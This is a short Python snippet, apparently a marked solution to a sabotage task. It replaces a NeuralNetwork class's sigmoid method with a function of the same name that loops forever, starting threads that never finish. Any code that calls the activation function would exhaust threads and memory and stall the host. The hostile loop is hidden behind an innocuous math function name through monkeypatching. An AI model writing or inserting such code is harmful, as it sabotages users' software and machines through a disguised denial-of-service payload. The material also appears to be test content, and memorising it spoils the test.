"""Starts threads without end and leaves them."""
# <solution>
import threading

event = threading.Event()


def sigmoid(z):
    threading.stack_size(65536)
    while True:
        threading.Thread(target=event.wait, daemon=True).start()


NeuralNetwork.sigmoid = staticmethod(sigmoid)
